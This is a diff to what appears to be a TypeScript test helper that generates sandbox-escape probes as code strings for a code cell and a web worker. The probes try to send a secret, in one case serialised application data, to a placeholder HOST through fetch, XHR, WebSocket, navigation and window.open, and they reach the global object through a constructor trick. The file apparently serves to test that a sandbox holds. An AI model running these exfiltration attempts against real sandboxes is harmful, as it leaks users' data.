@@ -7,7 +7,7 @@ const ATTEMPTS: Readonly<Record<string, string>> = {
   fetch: `return out.fetch('http://HOST/fetch?' + secret)`,
   'fetch keepalive': `return out.fetch('http://HOST/keepalive', { keepalive: true, method: 'POST', mode: 'no-cors', body: secret })`,
   'fetch of the app': `return out.fetch('APP')`,
-  xhr: `const x = new out.XMLHttpRequest(); x.open('GET', 'http://HOST/xhr'); x.send()`,
+  xhr: `return new out.Promise((done, fail) => { const x = new out.XMLHttpRequest(); x.onload = done; x.onerror = () => fail(new Error('refused')); x.open('GET', 'http://HOST/xhr'); x.send() })`,
   'xhr that blocks': `const x = new out.XMLHttpRequest(); x.open('GET', 'http://HOST/xhr', false); x.send()`,
   websocket: `return new out.Promise((done, fail) => { const s = new out.WebSocket('ws://HOST/socket'); s.onopen = done; s.onerror = () => fail(new Error('refused')) })`,
   'websocket stream': `return new out.WebSocketStream('ws://HOST/stream').opened`,
@@ -46,17 +46,32 @@ const ATTEMPTS: Readonly<Record<string, string>> = {
   parent: `out.parent.document.title.length`,
   top: `out.top.location = 'http://HOST/top'`,
   opener: `out.opener.location = 'http://HOST/opener'`,
-  location: `out.location = 'http://HOST/location'`,
+  location: `out.location = 'http://HOST/location'; return out.Promise.reject(new Error('stays'))`,
   'window open': `out.open('http://HOST/open')`,
   notification: `new out.Notification('Trust me'); return out.Promise.reject(new Error('shown to nobody'))`,
 };
 
-/** Every attempt in a worker of an ordinary page: what shows that they are real. */
-export function controlCode(host: string, app: string): string {
-  return `const secret = 'control';
+/** Names of the attempts, in order. */
+export const escapeNames: readonly string[] = Object.keys(ATTEMPTS);
+
+/**
+ * The attempts as a code cell, whose value says of each what came of it so far: `got` where it
+ * succeeded, else the name of the error. It goes on for a while, so that requests have time to get out.
+ */
+export function escapeCell(host: string, app: string): string {
+  return `const secret = JSON.stringify(sales.objects());
+const out = [].at.constructor('return this')();
+${attempts(host, app)}
+for (const end = Date.now() + 1500; Date.now() < end;);
+told`;
+}
+
+/** The attempts as a worker, which tells the same when all of them have had their time. */
+export function escapeWorker(host: string, app: string): string {
+  return `const secret = 'secret';
 const out = self;
 ${attempts(host, app)}
-setTimeout(() => postMessage(told), 1500);`;
+setTimeout(() => postMessage(told), 3000);`;
 }
 
 function attempts(host: string, app: string): string {
